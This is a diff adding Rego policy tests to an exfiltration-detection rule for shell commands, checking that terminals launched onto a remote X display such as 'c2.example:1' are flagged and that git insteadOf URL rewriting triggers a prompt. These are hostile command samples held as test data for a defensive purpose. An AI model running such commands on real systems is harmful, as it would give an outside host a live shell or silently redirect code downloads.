@@ -445,3 +445,13 @@ test_s29_insteadof_before_a_fetch_asks if {
 	count(exfiltration.ask) > 0 with input as cmd(["git", "-c", "url.https://github.com/x/.insteadOf=https://github.com/acme/", "clone", "https://github.com/acme/app"])
 	count(exfiltration.ask) == 0 with input as cmd(["git", "-c", "url.git@github.com:.insteadOf=https://github.com/", "clone", "https://github.com/acme/app"])
 }
+
+test_terminal_on_remote_display_asks if {
+	count(exfiltration.ask) == 1 with input as _input([_seg(0, ["xterm", "-display", "c2.example:1"], {})], [])
+	count(exfiltration.ask) == 1 with input as _input([_seg(0, ["urxvt"], {"assignments": {"DISPLAY": "10.0.0.5:0"}})], [])
+}
+
+test_terminal_on_local_display_passes if {
+	count(exfiltration.ask) == 0 with input as _input([_seg(0, ["xterm", "-display", ":0"], {})], [])
+	count(exfiltration.ask) == 0 with input as _input([_seg(0, ["xterm"], {"assignments": {"DISPLAY": "localhost:10.0"}})], [])
+}
